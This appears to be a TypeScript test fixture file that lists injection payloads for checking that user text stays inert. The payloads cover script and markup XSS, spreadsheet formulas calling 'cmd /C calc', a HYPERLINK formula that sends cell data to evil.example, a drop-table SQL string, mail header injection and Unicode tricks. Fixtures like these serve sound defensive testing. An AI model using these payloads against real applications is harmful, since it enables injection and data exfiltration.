/** What somebody might type to have it taken for more than text. `data-injected` marks any element that it could become. */
export const PAYLOADS: Record<string, string> = {
  markup: '"><img src=x data-injected onerror=alert(1)>',
  script: '</title></script><script data-injected>alert(1)</script>',
  attribute: "' onmouseover='alert(1)' data-injected='x",
  'javascript link': '[click](javascript:alert(1)) ![p](https://evil.example/p.png)',
  'bare links': 'https://evil.example www.evil.example <https://evil.example> e@evil.example',
  'markdown blocks': 'one | two | three\n\n# four\n- five\n```six',
  formula: '=HYPERLINK("https://evil.example?"&A1,"x")',
  'old formula': '@SUM(1+1)*cmd|" /C calc"!A0',
  'formula by sign': "-2+3+cmd|' /C calc'!A0",
  'wide formula': '＝1+1',
  'other direction': '\u202Egnp.exe\u2066hidden',
  template: ['{{7*7}} $', '{7*7} <%= 7*7 %> #{7*7}'].join(''),
  query: "'; drop table plans; -- \\' \" ;",
  'mail header': 'Ada\r\nBcc: evil@example.org\r\n\r\nbody',
  'name of the language': '__proto__',
  'wide text': '💥é́́́ﷺ'.repeat(12),
}

/** What no text can hold: the database would refuse it in the middle of a change. */
export const UNSTORABLE: Record<string, string> = { NUL: 'a\0b', 'half a character': 'a\uD800b' }
